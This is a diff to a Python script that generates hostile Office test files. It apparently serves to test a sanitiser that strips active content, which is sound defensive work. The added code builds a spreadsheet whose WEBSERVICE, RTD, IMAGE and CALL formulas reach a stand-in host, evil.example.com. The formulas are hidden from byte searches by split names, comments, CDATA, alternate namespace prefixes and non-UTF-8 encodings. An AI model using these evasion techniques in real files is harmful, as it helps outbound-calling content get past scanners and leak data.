@@ -33,6 +33,12 @@
                     page setup; Word's header reference, a chart, a hyperlink;
                     PowerPoint's click sound (a:snd of a WAV): nothing may be left
                     pointing at nothing, nor without an attribute it needs
+  hidden.xlsx       formulas that call out, hidden from a search of the bytes: a
+                    name split by a processing instruction (in a cell, a
+                    conditional format and a data validation, in a part with a
+                    BOM), a comment, CDATA, entity references, another prefix
+                    for SpreadsheetML, a sheet in UTF-16 and one in Shift_JIS
+  malformed.docx    a custom XML part that is not well-formed (never copied unread)
 Usage: make_ooxml_attacks.py OUTDIR
 """
 import io
@@ -404,4 +410,43 @@ write("dangling.pptx", [
      '</a:r></a:p></p:txBody></p:sp></p:spTree></p:cSld></p:sld>' % P),
     ("ppt/slides/_rels/slide1.xml.rels", rels(("rIdS", "audio", "../media/s.wav"))),
     ("ppt/media/s.wav", b"RIFF\x24\x00\x00\x00WAVEfmt "),
+])
+
+# ---- active content hidden from a search of the bytes ------------------------
+def sheet(body, prefix=""):
+    ns = SML.replace('xmlns="', 'xmlns:%s="' % prefix, 1) if prefix else SML
+    return '<%sworksheet %s>%s</%sworksheet>' % (prefix + ":" if prefix else "", ns, body, prefix + ":" if prefix else "")
+PI_SPLIT = sheet(
+    '<sheetData><row r="1"><c r="A1"><f>WEB<?x?>SERVICE("http://evil.example.com/pi")</f><v>1</v></c></row></sheetData>'
+    '<conditionalFormatting sqref="B1"><cfRule type="expression" priority="1">'
+    '<formula>LEN(WEB<?x?>SERVICE("http://evil.example.com/cf"))&gt;0</formula></cfRule></conditionalFormatting>'
+    '<dataValidations count="1"><dataValidation type="custom" sqref="C1">'
+    '<formula1>ISNUMBER(RT<?x?>D("evil.example.com",,"dv"))</formula1></dataValidation></dataValidations>')
+OTHER_FORMS = sheet(
+    '<s:sheetData><s:row r="1"><s:c r="A1"><s:f>_xlfn.IM<!-- -->AGE(&quot;https://evil.example.com/img&quot;)</s:f>'
+    '<s:v>0</s:v></s:c><s:c r="B1"><s:f><![CDATA[CALL("evil.example.com","x")]]></s:f><s:v>0</s:v></s:c>'
+    '</s:row></s:sheetData>', "s")
+UTF16 = sheet('<sheetData><row r="1"><c r="A1"><f>WEBSERVICE("http://evil.example.com/u16")</f><v>1</v></c>'
+              '</row></sheetData>')
+SJIS = sheet('<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>表</t></is></c>'
+             '<c r="B1"><f>RTD("evil.example.com",,"sj")</f><v>1</v></c></row></sheetData>')
+write("hidden.xlsx", [
+    ("[Content_Types].xml", ctypes([("xml", "application/xml")], [("/xl/workbook.xml", XL + "sheet.main+xml")] + [
+        ("/xl/worksheets/sheet%d.xml" % i, XL + "worksheet+xml") for i in range(1, 5)])),
+    ("_rels/.rels", rels(("rId1", "officeDocument", "xl/workbook.xml"))),
+    ("xl/workbook.xml", DECL + '<workbook %s><sheets>%s</sheets></workbook>' % (SML, "".join(
+        '<sheet name="s%d" sheetId="%d" r:id="rId%d"/>' % (i, i, i) for i in range(1, 5)))),
+    ("xl/_rels/workbook.xml.rels", rels(*[("rId%d" % i, "worksheet", "worksheets/sheet%d.xml" % i) for i in range(1, 5)])),
+    ("xl/worksheets/sheet1.xml", b"\xef\xbb\xbf" + (DECL + PI_SPLIT).encode()),
+    ("xl/worksheets/sheet2.xml", DECL + OTHER_FORMS),
+    ("xl/worksheets/sheet3.xml", b"\xff\xfe" + (DECL.replace("UTF-8", "UTF-16") + UTF16).encode("utf-16-le")),
+    ("xl/worksheets/sheet4.xml", (DECL.replace("UTF-8", "Shift_JIS") + SJIS).encode("shift_jis")),
+])
+
+write("malformed.docx", [
+    ("[Content_Types].xml", ctypes([("xml", "application/xml")], [("/word/document.xml", WORD_MAIN)])),
+    ("_rels/.rels", rels(("rId1", "officeDocument", "word/document.xml"))),
+    ("word/document.xml", DECL + "<w:document %s><w:body>%s</w:body></w:document>" % (W, para("malformed-text"))),
+    ("word/_rels/document.xml.rels", rels(("rIdX", "customXml", "../customXml/item1.xml"))),
+    ("customXml/item1.xml", DECL + "<root><a>unclosed</root>"),
 ])
